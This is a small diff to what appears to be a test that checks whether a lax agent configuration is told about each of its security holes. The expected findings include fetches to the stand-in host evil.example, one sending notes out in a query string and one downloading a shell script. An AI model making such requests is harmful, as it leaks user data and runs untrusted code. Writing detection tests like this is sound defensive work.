@@ -100,7 +100,6 @@ test('a lax configuration is told exactly its holes, each with the line that ope
     'fetch https://evil.example/?notes=abc <- 7',
     'fetch http://evil.example/x.sh <- 7',
     'ask some-model of elsewhere <- 9',
-    'ask some-model of elsewhere at https://evil.example/v1 <- 9',
     'ask some-model of elsewhere <- 9',
     'spend $1000 in one task <- ',
   ]);
